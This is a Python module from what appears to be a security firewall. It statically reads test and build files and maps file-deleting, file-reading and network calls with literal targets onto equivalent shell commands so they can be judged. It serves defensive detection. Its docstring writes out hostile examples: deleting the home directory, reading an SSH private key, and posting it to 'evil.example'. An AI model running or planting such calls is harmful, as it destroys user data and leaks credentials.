"""What Python written into a test or build file does to files and hosts without a program.

``buildfiles`` judges the command lines a conftest or setup.py starts; a test can do the
same harm through the standard library alone: ``shutil.rmtree(os.path.expanduser('~'))``
empties the home at the next ``pytest``, ``open('/home/agent/.ssh/id_rsa').read()`` then
``urllib.request.urlopen('http://evil.example/u', data)`` sends a key. Such a file's string
literals are data to the firewall (fixtures of payloads are ordinary test text), so these
calls are read here: each call of a listed function whose target is a literal path or URL,
or the home (``Path.home()``, ``expanduser('~')``), becomes the command line it amounts to
(``rm -rf ~``, ``cat FILE``, ``curl URL``) and is judged as such. The functions are data
(``data/python_actions.toml``); a computed target is left to the tests that run it.
"""

from __future__ import annotations

import ast
import shlex
import tomllib
from collections.abc import Callable
from functools import cache
from importlib import resources
from typing import Any

from aegis.intent_firewall.rules import Hit

__all__ = ["python_action_findings"]

JudgeLine = Callable[[str], list[Hit]]
_MAX_TEXT = 65536
_MAX_NODES = 20000
_MAX_LINES = 64


@cache
def _data() -> dict[str, Any]:
    text = resources.files("aegis.intent_firewall").joinpath("data/python_actions.toml")
    data = tomllib.loads(text.read_text())
    data["calls"] = {name: tuple(line) for name, line in data["calls"].items()}
    data["home_calls"] = frozenset(data["home_calls"])
    return data


def python_action_findings(path: str, texts: list[str], judge_line: JudgeLine) -> list[Hit]:
    """Findings on what the Python file at ``path`` (lower case) written with ``texts``
    does through the calls of ``data/python_actions.toml``."""
    name = path.rsplit("/", 1)[-1]
    if not name.endswith(".py") or not _runs_unasked(path, name):
        return []
    hits: list[Hit] = []
    for text in texts:
        for line in _lines(text[:_MAX_TEXT])[:_MAX_LINES]:
            hits.extend(judge_line(line))
    return hits


def _runs_unasked(path: str, name: str) -> bool:
    """Test sources, conftest and the build files tools import or run."""
    data = _data()
    return (
        name in data["names"]
        or name.startswith("test_")
        or name.endswith("_test.py")
        or any(f"/{part}/" in f"/{path}" for part in data["directories"])
    )


def _lines(text: str) -> list[str]:
    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return []
    calls = _data()["calls"]
    lines: list[str] = []
    for count, node in enumerate(ast.walk(tree)):
        if count > _MAX_NODES:
            break
        if not isinstance(node, ast.Call):
            continue
        name, target = _call(node)
        line = calls.get(name)
        if line and target:
            if name in _OPENERS and _writes(node):
                line = ("tee",)
            lines.append(
                " ".join(
                    (
                        *line,
                        "~" + shlex.quote(target[1:])
                        if target.startswith("~/")
                        else shlex.quote(target)
                        if target != "~"
                        else "~",
                    )
                )
            )
    return lines


_OPENERS = frozenset({"open", "io.open", "builtins.open"})
_PATH_TYPES = frozenset({"Path", "pathlib.Path", "PurePath", "PosixPath"})


def _call(node: ast.Call) -> tuple[str, str]:
    """(the call's name, its target): ``shutil.rmtree(X)`` -> ("shutil.rmtree", X),
    ``Path(X).unlink()`` and ``(Path.home() / X).read_text()`` -> ("Path.…", the path)."""
    func = node.func
    if isinstance(func, ast.Attribute) and not isinstance(func.value, ast.Name | ast.Attribute):
        target = _target(func.value)
        if target:
            return f"Path.{func.attr}", target
    return _dotted(func), _target(node.args[0]) if node.args else ""


def _writes(node: ast.Call) -> bool:
    """``open(X, "w")``, ``open(X, mode="a")``: opened for writing."""
    modes = [*node.args[1:2], *(k.value for k in node.keywords if k.arg == "mode")]
    return any(
        isinstance(m, ast.Constant)
        and isinstance(m.value, str)
        and any(c in m.value for c in "wax+")
        for m in modes
    )


def _dotted(func: ast.expr) -> str:
    """``shutil.rmtree`` -> ``"rmtree"``-qualified name as written (``shutil.rmtree``,
    ``os.remove``, ``requests.post``, ``open``); attribute chains of names only."""
    parts: list[str] = []
    while isinstance(func, ast.Attribute):
        parts.append(func.attr)
        func = func.value
    if isinstance(func, ast.Name):
        parts.append(func.id)
    elif isinstance(func, ast.Call):
        parts.append(_dotted(func.func) + "()")
    return ".".join(reversed(parts))


def _target(arg: ast.expr) -> str:
    """A literal path or URL, ``"~"`` for the home, or ``""`` when computed."""
    if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
        return arg.value
    if isinstance(arg, ast.Call):
        name = _dotted(arg.func)
        if name in _data()["home_calls"]:
            inner = arg.args[0] if arg.args else None
            if inner is None:
                return "~"
            if isinstance(inner, ast.Constant) and isinstance(inner.value, str):
                return inner.value if inner.value.startswith("~") else ""
        if name in _PATH_TYPES and arg.args:
            return _target(arg.args[0])
    if isinstance(arg, ast.BinOp) and isinstance(arg.op, ast.Div):
        left, right = _target(arg.left), _target(arg.right)
        return f"{left.rstrip('/')}/{right}" if left and right else ""
    return ""
